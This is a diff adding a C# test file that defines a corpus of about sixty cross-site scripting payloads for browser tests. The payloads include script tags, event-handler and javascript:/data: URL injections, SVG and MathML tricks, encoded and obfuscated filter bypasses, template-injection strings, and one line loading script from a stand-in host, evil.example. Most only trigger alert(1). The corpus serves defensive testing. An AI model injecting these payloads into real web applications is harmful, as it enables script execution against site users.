@@ -1,0 +1,76 @@
+namespace SozialProduziert.Tests.HostileInput;
+
+/// <summary>
+/// Cross-site scripting payloads in the shapes attackers use: script tags, event handlers, javascript: and data: URLs,
+/// SVG and MathML, attribute and tag breaking, encoded and obfuscated variants, and template syntax. Every one tries
+/// to open an alert, so a browser test knows that any dialog came from here.
+/// </summary>
+public static class XssCorpus
+{
+    public static IReadOnlyList<string> Payloads { get; } =
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT>alert(1)</SCRIPT>",
+        "<script src=//evil.example/x.js></script>",
+        "<script>alert(String.fromCharCode(88,83,83))</script>",
+        "</title><script>alert(1)</script>",
+        "</textarea><script>alert(1)</script>",
+        "</script><script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"x\" onerror=\"alert(1)\">",
+        "<IMG SRC=x oNeRrOr=alert(1)>",
+        "<img src=x onerror=alert`1`>",
+        "<body onload=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<iframe src=\"javascript:alert(1)\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=\"javascript:alert(1)\"></object>",
+        "<embed src=\"javascript:alert(1)\">",
+        "<a href=\"javascript:alert(1)\">klick</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">klick</a>",
+        "<a href=\"jav&#x09;ascript:alert(1)\">klick</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klick</a>",
+        "<form action=\"javascript:alert(1)\"><button>los</button></form>",
+        "<input autofocus onfocus=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<video><source onerror=alert(1)></video>",
+        "<marquee onstart=alert(1)>",
+        "<base href=\"javascript:alert(1)//\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+        "<link rel=import href=data:text/html,<script>alert(1)</script>>",
+        "<style>@import 'javascript:alert(1)';</style>",
+        "<div style=\"background:url(javascript:alert(1))\">",
+        "\"><script>alert(1)</script>",
+        "'><script>alert(1)</script>",
+        "\" onmouseover=\"alert(1)",
+        "' onmouseover='alert(1)",
+        "\" autofocus onfocus=\"alert(1)",
+        "\"><img src=x onerror=alert(1)>",
+        "--><script>alert(1)</script><!--",
+        "]]><script>alert(1)</script>",
+        "javascript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;alert(1)&#60;/script&#62;",
+        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<<script>script>alert(1)<</script>/script>",
+        "<script\x0d\x0a>alert(1)</script>",
+        "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
+        "{{constructor.constructor('alert(1)')()}}",
+        "${alert(1)}",
+        "@(\"<script>alert(1)</script>\")",
+        "<%= alert(1) %>",
+        "[klick](javascript:alert(1))",
+        "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "![bild](x\" onerror=\"alert(1))",
+        "<a href=\"&#106;avascript:alert(1)\">klick</a>",
+        "\u202e<script>alert(1)</script>",
+    ];
+
+    public static TheoryData<int> Indexes => [.. Enumerable.Range(0, Payloads.Count)];
+}
